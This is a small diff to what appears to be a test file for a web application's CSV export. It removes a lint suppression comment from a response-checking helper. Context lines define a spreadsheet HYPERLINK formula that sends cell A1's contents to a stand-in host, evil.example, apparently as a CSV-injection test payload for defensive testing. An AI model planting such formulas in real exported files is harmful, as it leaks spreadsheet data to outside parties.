@@ -18,7 +18,7 @@ from website.extensions import db
 FORMULA = "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")"
 
 
-def rows_of(response) -> list[list[str]]:  # noqa: ANN001
+def rows_of(response) -> list[list[str]]:
     assert response.status_code == 200, response.text[:300]
     assert response.mimetype == "text/csv"
     assert response.headers["Content-Disposition"].startswith("attachment;")
